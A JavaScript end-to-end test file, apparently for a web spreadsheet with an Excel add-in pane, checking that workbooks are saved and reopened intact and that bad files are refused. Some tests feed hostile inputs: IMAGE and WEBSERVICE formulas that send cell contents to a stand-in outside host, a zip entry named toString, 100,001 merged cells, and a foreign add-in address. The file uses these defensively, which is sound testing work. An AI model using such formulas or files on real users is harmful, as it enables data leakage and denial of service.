// A workbook kept and brought back: the example with everything users add to it, other people's files, and bad ones.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { withNewPane } from './page.mjs';

export const address = '/?model=none';

const FIGURES = /([\d.,]+)\s*fte tekort/;

/** @param {import('./journeys').Opened} t */
const overviewIsThere = (t) => t.until(() => /fte tekort/.test(document.body.innerText));
/**
 * @param {import('./journeys').Opened} t
 * @param {string} pattern
 */
const said = (t, pattern) =>
  t.untilWorkbench((source) => new RegExp(source).test(document.getElementById('notice')?.textContent ?? ''), pattern);
/** @param {import('./journeys').Opened} t */
const notice = (t) => t.workbench(() => document.getElementById('notice')?.textContent ?? '');

/** @param {import('./journeys').Opened} t */
async function save(t) {
  const [download] = await Promise.all([
    t.page.waitForEvent('download'),
    t.page.getByRole('button', { name: 'Opslaan', exact: true }).click(),
  ]);
  return { path: await download.path(), name: download.suggestedFilename() };
}

/**
 * @param {import('./journeys').Opened} t
 * @param {{ path: string, name: string }} file
 */
async function choose(t, { path, name }) {
  await t.page.setInputFiles('#file', { name, mimeType: '', buffer: readFileSync(path) });
}

/** @param {import('./journeys').Opened} t */
const figures = (t) =>
  t.addIn(() =>
    document.body.innerText.replace(/[\s\S]*(?=Capaciteit)/, '').replace(/Benodigde fte[\s\S]*|Fte nodig[\s\S]*/, ''),
  );

/**
 * Everything of a workbook the add-in can ask for, in words.
 *
 * @param {import('./journeys').Opened} t
 */
const described = (t) =>
  t.addIn(() =>
    Excel.run(async (context) => {
      const { worksheets, names } = context.workbook;
      worksheets.load('items/name,items/visibility,items/tabColor,items/showGridlines');
      names.load('items/name,items/formula,items/comment');
      const settings = context.workbook.settings.load('items/key,items/value');
      const xml = context.workbook.customXmlParts.load('items/id');
      await context.sync();
      const sheets = worksheets.items.map((sheet) => ({
        sheet,
        tables: sheet.tables.load('items/name,items/style,items/showBandedRows'),
        used: sheet.getUsedRangeOrNullObject().load('address,formulas,numberFormat'),
        frozen: sheet.freezePanes.getLocationOrNullObject().load('address'),
        protection: sheet.protection.load('protected,options'),
        width: sheet.getRange('C1').load('format/columnWidth'),
        height: sheet.getRange('A2').load('format/rowHeight'),
      }));
      const texts = xml.items.map((part) => part.getXml());
      await context.sync();
      const inTables = sheets.flatMap(({ tables }) =>
        tables.items.map((table) => ({ table, range: table.getRange().load('address') })),
      );
      await context.sync();
      return {
        names: names.items.map(({ name, formula, comment }) => [name, formula, comment]),
        settings: settings.items.map(({ key, value }) => [key, value]),
        xml: texts.map(({ value }) => value),
        tables: inTables.map(({ table, range }) => [table.name, range.address, table.style, table.showBandedRows]),
        sheets: sheets.map(({ sheet, used, frozen, protection, width, height }) => ({
          name: sheet.name,
          visibility: sheet.visibility,
          tab: sheet.tabColor,
          gridlines: sheet.showGridlines,
          frozen: frozen.isNullObject ? null : frozen.address,
          protected: [protection.protected, protection.options],
          sizes: [width.format.columnWidth, height.format.rowHeight],
          cells: used.isNullObject ? null : [used.address, used.formulas, used.numberFormat],
        })),
      };
    }),
  );

/**
 * A sheet with one of everything.
 *
 * @param {import('./journeys').Opened} t
 */
const addEverything = (t) =>
  t.addIn(() =>
    Excel.run(async (context) => {
      const { workbook } = context;
      const sheet = workbook.worksheets.add("Proef 'a' & <b>");
      sheet.tabColor = '#FF8800';
      sheet.showGridlines = false;
      sheet.freezePanes.freezeAt('A1:B1');
      sheet.getRange('A1:C1').formulas = [['Rol', 'Uren', 'Per zaak']];
      sheet.getRange('A2:C3').formulas = [
        ["'007", 12.5, ''],
        ["'=geen formule", '=1/0', ''],
      ];
      const table = sheet.tables.add('A1:C3', true);
      table.name = 'Proef';
      sheet.getRange('C2:C3').formulas = [['=[@Uren]*2'], ['=IFERROR([@Uren],"geen")']];
      table.style = 'TableStyleLight9';
      table.showBandedRows = false;
      sheet.getRange('E1:E5').formulas = [[true], [45047], ['=SEQUENCE(3)'], [''], ['']];
      sheet.getRange('F1:F4').formulas = [['=VKT.FTE(22184,20,1363)'], ['=LET(x,2,x*x)'], ["'#N/A"], ["'een\nregel"]];
      sheet.getRange('E2').numberFormat = [['dd-mm-yyyy']];
      const { format } = sheet.getRange('E2');
      format.fill.color = '#FFEE99';
      format.font.bold = true;
      format.font.color = '#AA0000';
      format.horizontalAlignment = 'Center';
      format.wrapText = true;
      format.borders.getItem('EdgeBottom').style = 'Double';
      sheet.getRange('C1').format.columnWidth = 120;
      sheet.getRange('A2').format.rowHeight = 36;
      sheet.getRange('H1').values = [[3]];
      sheet.getRange('H1').dataValidation.rule = { wholeNumber: { formula1: 1, formula2: 9, operator: 'Between' } };
      sheet.getRange('H1').dataValidation.errorAlert = {
        title: 'Nee',
        message: 'Tussen 1 en 9',
        style: 'Stop',
        showAlert: true,
      };
      const shown = sheet.getRange('H1:H5').conditionalFormats.add(Excel.ConditionalFormatType.cellValue);
      shown.cellValue.format.fill.color = '#C6EFCE';
      shown.cellValue.rule = { formula1: '2', operator: 'GreaterThan' };
      workbook.names.add('Nettouren', '=1363', 'per jaar');
      workbook.names.add('Plek', sheet.getRange('E2'));
      workbook.settings.add('keuze', { taal: 'nl', lijst: [1, 2] });
      workbook.customXmlParts.add('<model xmlns="urn:proef">1 &lt; 2</model>');
      await context.sync();
      sheet.protection.protect({ allowSort: true });
      const hidden = workbook.worksheets.add('Verborgen');
      hidden.visibility = 'VeryHidden';
      await context.sync();
    }),
  );

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
/** @param {(readonly [kind: string, target: string])[]} all */
const relations = (...all) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all
    .map(([kind, target], i) => `<Relationship Id="rId${i + 1}" Type="${OFFICE}/${kind}" Target="${target}"/>`)
    .join('')}</Relationships>`;

/**
 * A workbook another program could have written: one sheet of this XML, with other parts beside it.
 *
 * @param {string} sheet
 * @param {Readonly<Record<string, string>>} [others]
 */
const workbookOf = (sheet, others = {}, names = '') =>
  Buffer.from(
    zipSync(
      Object.fromEntries(
        Object.entries({
          '[Content_Types].xml': '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
          '_rels/.rels': relations(['officeDocument', 'xl/workbook.xml']),
          'xl/workbook.xml': `<workbook xmlns="${MAIN}" xmlns:r="${OFFICE}"><sheets><sheet name="Blad" sheetId="1" r:id="rId1"/></sheets>${names}</workbook>`,
          'xl/_rels/workbook.xml.rels': relations(['worksheet', 'worksheets/sheet1.xml']),
          'xl/worksheets/sheet1.xml': `<worksheet xmlns="${MAIN}" xmlns:r="${OFFICE}">${sheet}</worksheet>`,
          ...others,
        }).map(([name, text]) => [name, strToU8(text)]),
      ),
      { level: 1 },
    ),
  );

/** @param {import('./journeys').Opened} t */
async function savedWithEverything(t) {
  await overviewIsThere(t);
  await addEverything(t);
  await t.idle();
  return readFileSync((await save(t)).path);
}

/** The example with one of everything as a file, once a test has saved it. @type {Buffer | undefined} */
let everything;

/**
 * @param {import('./journeys').Opened} t
 * @param {string} name
 * @param {Buffer} buffer
 */
const chooseBytes = (t, name, buffer) => t.page.setInputFiles('#file', { name, mimeType: '', buffer });
/**
 * @param {import('./journeys').Opened} t
 * @param {string} name
 */
const press = (t, name) => t.page.getByRole('button', { name, exact: true }).click();

/** @type {import('./journeys').Tests} */
export const tests = {
  // On one page, each from the saved workbook the one before it leaves.
  'changes nobody saved are asked about, and cancelling keeps them': async (t) => {
    const other = workbookOf('<sheetData><row r="1"><c r="A1"><v>7</v></c></row></sheetData>');
    await t.type('A1', '12');
    await chooseBytes(t, 'ander.xlsx', other);
    await said(t, 'niet zijn opgeslagen');
    await press(t, 'Annuleren');
    assert.deepEqual(await t.values('A1'), [[12]]);
    await chooseBytes(t, 'ander.xlsx', other);
    const [download] = await Promise.all([t.page.waitForEvent('download'), press(t, 'Eerst opslaan')]);
    assert.equal(download.suggestedFilename(), 'werkmap.xlsx');
    await said(t, 'Geopend: ander.xlsx');
    assert.deepEqual(await t.values('Blad!A1'), [[7]]);
    // Nothing was changed since: no question, and nothing of the other workbook to undo.
    await t.workbench(() => window.workbench.grid.undo());
    assert.deepEqual(await t.values('Blad!A1'), [[7]]);
    await chooseBytes(t, 'weer.xlsx', other);
    await said(t, 'Geopend: weer.xlsx');
  },

  'a file dropped on the grid is opened': async (t) => {
    const bytes = [...workbookOf('<sheetData><row r="1"><c r="A1"><v>7</v></c></row></sheetData>')];
    await t.workbench((contents) => {
      const dataTransfer = new DataTransfer();
      dataTransfer.items.add(new File([new Uint8Array(contents)], 'gesleept.xlsx'));
      const grid = document.querySelector('#grid canvas');
      for (const type of ['dragover', 'drop'])
        grid?.dispatchEvent(new DragEvent(type, { dataTransfer, bubbles: true, cancelable: true }));
    }, bytes);
    await said(t, 'Geopend: gesleept.xlsx');
    assert.deepEqual(await t.values('A1'), [[7]]);
  },

  'Ctrl+S keeps what is being typed': async (t) => {
    await t.workbench(() => window.workbench.select('B2'));
    await t.workbench(() => window.workbench.focusGrid());
    await t.page.keyboard.type('4');
    await t.page.keyboard.insertText('2');
    const [download] = await Promise.all([t.page.waitForEvent('download'), t.page.keyboard.press('Control+s')]);
    const sheet = strFromU8(unzipSync(readFileSync(await download.path()))['xl/worksheets/sheet1.xml']);
    assert.match(sheet, /<c r="B2"><v>42<\/v><\/c>/);
  },

  'a workbook of a stranger asks nothing of any other server': async (t) => {
    /** @type {string[]} */
    const asked = [];
    t.page.on('request', (request) => asked.push(new URL(request.url()).hostname));
    const image = '<c r="B1"><f>_xlfn.IMAGE("https://elders.example/"&amp;A1)</f></c>';
    const service = '<c r="C1"><f>WEBSERVICE("https://elders.example/"&amp;A1)</f></c>';
    await chooseBytes(
      t,
      'vreemd.xlsx',
      workbookOf(`<sheetData><row r="1"><c r="A1"><v>7</v></c>${image}${service}</row></sheetData>`),
    );
    await said(t, '^Geopend: vreemd.xlsx');
    await t.idle();
    assert.deepEqual(await t.values('A1:C1'), [[7, '#VALUE!', '#VALUE!']]);
    assert.deepEqual(
      asked.filter((host) => host !== 'localhost'),
      [],
    );
  },

  'fifty thousand rows are opened and saved': async (t) => {
    /**
     * @param {number} column
     * @param {number} row
     */
    const cell = (column, row) => `<c r="${'ABCDEFGH'[column]}${row}"><v>${row * 10 + column}</v></c>`;
    const rows = Array.from({ length: 50_000 }, (_none, i) => {
      const cells = Array.from({ length: 7 }, (_cell, column) => cell(column, i + 1)).join('');
      return `<row r="${i + 1}">${cells}<c r="H${i + 1}" t="str"><v>tekst ${i}</v></c></row>`;
    });
    const bytes = workbookOf(`<sheetData>${rows.join('')}</sheetData>`);
    const started = Date.now();
    await chooseBytes(t, 'groot.xlsx', bytes);
    await said(t, 'Geopend: groot.xlsx');
    const opened = Date.now() - started;
    assert.deepEqual(await t.values('Blad!G50000:H50000'), [[500_006, 'tekst 49999']]);
    const from = Date.now();
    const { path } = await save(t);
    console.log(
      `        ${(bytes.length / 1e6).toFixed(1)} MB opened in ${opened} ms, saved in ${Date.now() - from} ms as ${(readFileSync(path).length / 1e6).toFixed(1)} MB`,
    );
  },

  'an add-in of another server is refused': async ({ page }) => {
    const own = new URL(page.url()).origin;
    const other = await page.context().newPage();
    await other.goto(`${own}/?addin=https://elders.example/`);
    await other.waitForFunction(() =>
      document.getElementById('status')?.textContent.includes('only an add-in of this server'),
    );
    assert.equal(await other.locator('#pane iframe').count(), 0);
    await other.close();
  },

  'a merge over the whole sheet opens, is said to be shown in part, and is saved whole; an old array is guarded at once':
    async (t) => {
      const sheet =
        '<sheetData><row r="1"><c r="A1"><v>2</v></c></row></sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>';
      await chooseBytes(t, 'heel-blad.xlsx', workbookOf(sheet));
      await said(t, '1 samenvoeging van cellen voor een deel');
      assert.deepEqual(await t.values('A1'), [[2]]);
      const { path } = await save(t);
      const written = strFromU8(unzipSync(readFileSync(path))['xl/worksheets/sheet1.xml']);
      assert.match(written, /<mergeCells count="1"><mergeCell ref="A1:XFD1048576"\/><\/mergeCells>/);

      const block =
        '<sheetData><row r="1"><c r="A1"><v>2</v></c><c r="B1"><f t="array" ref="B1:B2">A1:A2*2</f><v>4</v></c></row>' +
        '<row r="2"><c r="A2"><v>3</v></c><c r="B2"><v>6</v></c></row></sheetData>';
      await chooseBytes(t, 'matrix.xlsx', workbookOf(block));
      await said(t, 'Geopend: matrix.xlsx');
      await t.type('B2', '9');
      await said(t, 'U kunt een deel van een matrix niet wijzigen');
      assert.deepEqual(await t.values('B1:B2'), [[4], [6]]);
    },

  'rules over a thousand ranges, names without end and empty cells passed on: calm, as Excel has them, and saved as they were':
    async (t) => {
      const many = Array.from({ length: 1_000 }, (_range, i) => `A${2 * i + 1}`).join(' ');
      // Around B2 and A3 lies A2:B3: the formula is A2's.
      const sheet =
        '<sheetData><row r="1"><c r="A1"><v>5</v></c><c r="D1"><f>lus*2</f></c><c r="E1"><f>som*2</f></c>' +
        '<c r="F1" t="e"><v>#N/A</v></c></row><row r="2"><c r="B2"><v>7</v></c></row><row r="3"><c r="A3"><v>500</v></c></row></sheetData>' +
        `<conditionalFormatting sqref="${many}"><cfRule type="cellIs" priority="2" operator="greaterThan"><formula>9</formula></cfRule></conditionalFormatting>` +
        '<conditionalFormatting sqref="B2 A3"><cfRule type="expression" priority="1"><formula>A2&gt;6</formula></cfRule></conditionalFormatting>' +
        `<dataValidations><dataValidation type="whole" showErrorMessage="1" sqref="${many} C:C"><formula1>1</formula1><formula2>9</formula2></dataValidation></dataValidations>`;
      const names =
        '<definedNames><definedName name="lus">lus+1</definedName><definedName name="som">1+2</definedName></definedNames>';
      await chooseBytes(t, 'vreemd.xlsx', workbookOf(sheet, {}, names));
      await said(t, 'Geopend: vreemd.xlsx');
      await t.type('G1', '=A1:A3');
      await t.type('H1', '=ISGETAL(G2)');
      await t.workbench(() => window.workbench.grid.recalculateAll());
      await t.idle();
      const texts = (await t.cells('D1:H1'))[0].map(({ text }) => text);
      assert.deepEqual(texts, ['#NAAM?', '6', '#N/B', '5', 'WAAR']);
      assert.deepEqual(await t.values('D1:F1'), [['#NAME?', 6, '#N/A']]);
      assert.deepEqual(await t.values('G1:G3'), [[5], [0], [500]]);
      const { path } = await save(t);
      const written = strFromU8(unzipSync(readFileSync(path))['xl/worksheets/sheet1.xml']);
      const [, areas] = /<dataValidation [^>]*sqref="([^"]*)"/.exec(written) ?? [];
      assert.equal(areas, `${many} C:C`);
      assert.ok(written.includes(`<conditionalFormatting sqref="${many}">`), 'the format');
      assert.match(written, /sqref="B2 A3"><cfRule [^>]*type="expression"[^>]*><formula>A2&gt;6</);
    },

  'what is not taken over is said; the rest is there and still calculates': async (t) => {
    const sheet =
      '<sheetData><row r="1"><c r="A1"><v>2</v></c><c r="B1"><f>A1*10</f><v>20</v></c><c r="C1"><f>NOOIT.GEHOORD(1)</f><v>5</v></c>' +
      '<c r="D1"><f>[1]Blad!A1</f><v>8</v></c></row></sheetData><mergeCells><mergeCell ref="A3:C4"/></mergeCells><hyperlinks><hyperlink ref="A1"/></hyperlinks>';
    const others = {
      'xl/charts/chart1.xml': '<c/>',
      'xl/charts/chart2.xml': '<c/>',
      'xl/pivotTables/pivotTable1.xml': '<p/>',
    };
    await chooseBytes(t, 'analist.xlsx', workbookOf(sheet, others));
    await said(
      t,
      '2 grafieken, 1 draaitabel, 1 hyperlink die nergens heen gaat, 1 formule met een koppeling naar een andere werkmap',
    );
    await t.type('A1', '3');
    assert.deepEqual(await t.values('A1:D1'), [[3, 30, 5, 8]]);
  },

  // On pages of their own.
  'a bad file says why and leaves everything as it was': async ({ at }) => {
    const t = await at('/?model=example');
    await overviewIsThere(t);
    await t.idle();
    const before = await described(t);
    const frame = t.frame.name();
    const whole = readFileSync((await save(t)).path);
    for (const [name, bytes, sentence] of /** @type {const} */ ([
      ['cijfers.xlsx', Buffer.from('Product;Zaken\n'), 'dit is een tekstbestand \\(csv\\)'],
      ['half.xlsx', whole.subarray(0, whole.length / 2), 'beschadigd of niet volledig'],
      ['leeg.xlsx', Buffer.alloc(0), 'het bestand is leeg'],
      ['oud.xls', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), 'oude Excel-werkmap'],
      ['kapot.xlsx', workbookOf('<sheetData><row>'), 'beschadigd'],
      [
        'alles-samen.xlsx',
        workbookOf(`<mergeCells>${'<mergeCell ref="A1:B1"/>'.repeat(100_001)}</mergeCells>`),
        'te veel samengevoegde cellen',
      ],
      ['toString.xlsx', Buffer.from(zipSync({ toString: strToU8('<a/>') })), 'geen Excel-werkmap'],
    ])) {
      await chooseBytes(t, name, bytes);
      await said(t, `^Niet geopend: ${name}: .*${sentence}`);
    }
    assert.deepEqual(await described(t), before);
    assert.equal(t.frame.name(), frame, 'the pane was not reloaded');
    await press(t, 'Sluiten');
    assert.equal(await notice(t), '');
  },

  'the example with one of everything comes back in a fresh page, and the pane shows the same figures': async ({
    at,
    open,
  }) => {
    const first = await at('/?model=example');
    await overviewIsThere(first);
    await addEverything(first);
    await first.idle();
    const before = await described(first);
    const shown = FIGURES.exec(await figures(first));
    const started = Date.now();
    const file = await save(first);
    const saved = Date.now() - started;
    assert.equal(file.name, 'werkmap.xlsx');
    await said(first, '^Opgeslagen: werkmap.xlsx(?!.*Niet)');
    everything = readFileSync(file.path);

    const page = await open('/?model=none');
    const from = Date.now();
    await choose(page, { ...file, name: 'Mijn model.xlsx' });
    await said(page, '^Geopend: Mijn model.xlsx(?!.*Niet)');
    const opened = Date.now() - from;
    const second = await withNewPane(page);
    await overviewIsThere(second);
    console.log(`        saved in ${saved} ms, opened in ${opened} ms, figures after ${Date.now() - from} ms`);
    await second.idle();
    assert.deepEqual(await described(second), before);
    assert.deepEqual(FIGURES.exec(await figures(second)), shown);
    assert.deepEqual(await second.addIn(() => Office.context.document.settings.get('keuze')), {
      taal: 'nl',
      lijst: [1, 2],
    });
    assert.match(await second.addIn(() => Office.context.document.url), /Mijn%20model\.xlsx$/);
    // What only the grid shows.
    const [[date], [bad], [count]] = await Promise.all([
      second.cells("'Proef ''a'' & <b>'!E2").then(([[cell]]) => [cell.text]),
      second.cells("'Proef ''a'' & <b>'!B3").then(([[cell]]) => [cell.value]),
      second.values("'Proef ''a'' & <b>'!E5").then(([[cell]]) => [cell]),
    ]);
    assert.deepEqual([date, bad, count], ['01-05-2023', '#DIV/0!', 3]);
    // A second time: nothing creeps in.
    const again = await save(second);
    assert.deepEqual(readFileSync(again.path), readFileSync(file.path));
    // And a third, in the same page: the workbook that goes takes its work in waiting with it.
    await choose(page, { ...file, name: 'Weer.xlsx' });
    await said(page, '^Geopend: Weer.xlsx');
    await overviewIsThere(await withNewPane(page));
  },

  'the file has what Excel wants to see': async ({ at }) => {
    everything ??= await savedWithEverything(await at('/?model=example'));
    const parts = Object.entries(unzipSync(everything)).map(([name, bytes]) => [name, strFromU8(bytes)]);
    /** @param {string} name */
    const part = (name) => parts.find(([found]) => found === name)?.[1] ?? '';
    const id = Number(/<sheet name="Verborgen" sheetId="(\d+)" state="veryHidden"/.exec(part('xl/workbook.xml'))?.[1]);
    const sheet = part(`xl/worksheets/sheet${id - 1}.xml`);
    for (const wanted of [
      '<c r="F1" cm="1"><f t="array" ref="F1">_xldudf_VKT_FTE(22184,20,1363)</f><v>325.5',
      '<f t="array" ref="F2">_xlfn.LET(_xlpm.x,2,_xlpm.x*_xlpm.x)</f><v>4</v>',
      '<f t="array" ref="E3:E5">_xlfn.SEQUENCE(3)</f><v>1</v>',
      '<c r="C2"><f>Proef[[#This Row],[Uren]]*2</f><v>25</v></c>',
      '<c r="B3" t="e"><f>1/0</f><v>#DIV/0!</v></c>',
      '<dataValidation type="whole" allowBlank="1" showInputMessage="1" showErrorMessage="1" errorTitle="Nee" error="Tussen 1 en 9" sqref="H1"><formula1>1</formula1><formula2>9</formula2></dataValidation>',
      'operator="greaterThan"><formula>2</formula></cfRule>',
      '<pane xSplit="2" ySplit="1" topLeftCell="C2" activePane="bottomRight" state="frozen"/>',
      '<sheetProtection sheet="1" sort="0" objects="1" scenarios="1"/>',
    ])
      assert.ok(sheet.includes(wanted), `${wanted}\nnot in\n${sheet}`);
    assert.match(part('xl/webextensions/webextension1.xml'), /name="keuze" value="\{&quot;taal&quot;:&quot;nl&quot;/);
    // Every part that is pointed at is there, and every id that is used is given.
    const names = parts.map(([name]) => name);
    for (const [name, xml] of parts.filter(([found]) => found.endsWith('.rels')))
      for (const [, target] of xml.matchAll(/Target="([^"]+)"/g)) {
        const folder = new URL(`https://x/${name}`).pathname.replace(/_rels\/[^/]+$/, '');
        const found = new URL(target, `https://x${folder}`).pathname.slice(1);
        assert.ok(names.includes(found), `${name} points at ${found}`);
      }
  },

  'an address without a workbook says so and leaves an empty one': async ({ open }) => {
    const t = await open('/?file=/fixture/weg.xlsx');
    await said(t, '^Niet geopend: weg.xlsx: het bestand is er niet');
    await t.type('A1', '1');
    assert.deepEqual(await t.values('A1'), [[1]]);
  },

  'answers still on their way when a file was saved are asked again when it is opened; a kept value stays until it must':
    async ({ at }) => {
      const t = await at('/?addin=/fixture/');
      await t.page.setInputFiles('#file', {
        name: 'bewaard.xlsx',
        mimeType: '',
        buffer: workbookOf(
          '<sheetData><row r="1"><c r="A1" t="e"><f>_xldudf_VKT_FTE(72)</f><v>#GETTING_DATA</v></c>' +
            '<c r="B1"><f>1+1</f><v>99</v></c><c r="C1"><f>A1+1</f><v>5</v></c></row></sheetData>',
        ),
      });
      await said(t, 'Geopend: bewaard.xlsx');
      await t.untilWorkbench(() => window.workbench.values('Blad!A1')[0][0] === 2);
      assert.deepEqual(await t.values('Blad!A1:C1'), [[2, 99, 3]]);
    },

  'answered cells, saved and opened again in the same page, keep their values and calculate on': async ({ at }) => {
    const t = await at('/?addin=/fixture/');
    await t.workbench(() => {
      for (let row = 1; row <= 5; row++) window.workbench.setCell(`A${row}`, `=VKT.FTE(${row}*36)`);
    });
    await t.idle();
    assert.deepEqual(await t.values('A1:A5'), [[1], [2], [3], [4], [5]]);
    const file = await save(t);
    await choose(t, { ...file, name: 'weer.xlsx' });
    await said(t, 'Geopend: weer.xlsx');
    await t.workbench(() => window.workbench.setCell('B1', '=VKT.FTE(72)+A5'));
    await t.untilWorkbench(() => window.workbench.values('B1')[0][0] === 7);
    assert.deepEqual(await t.values('A1:A5'), [[1], [2], [3], [4], [5]]);
  },

  'the address can name a workbook of this server': async ({ open }) => {
    const t = await open('/?file=/files/openpyxl.xlsx');
    await said(t, 'Geopend: openpyxl.xlsx');
    assert.deepEqual(await t.values('Zaken!A1:E2'), [
      ['Product', 'Ontvangen', 'Zaken', 'Uren', 'Werk'],
      ['Spoor 4', 45047, 33555, 20, 671100],
    ]);
  },
};
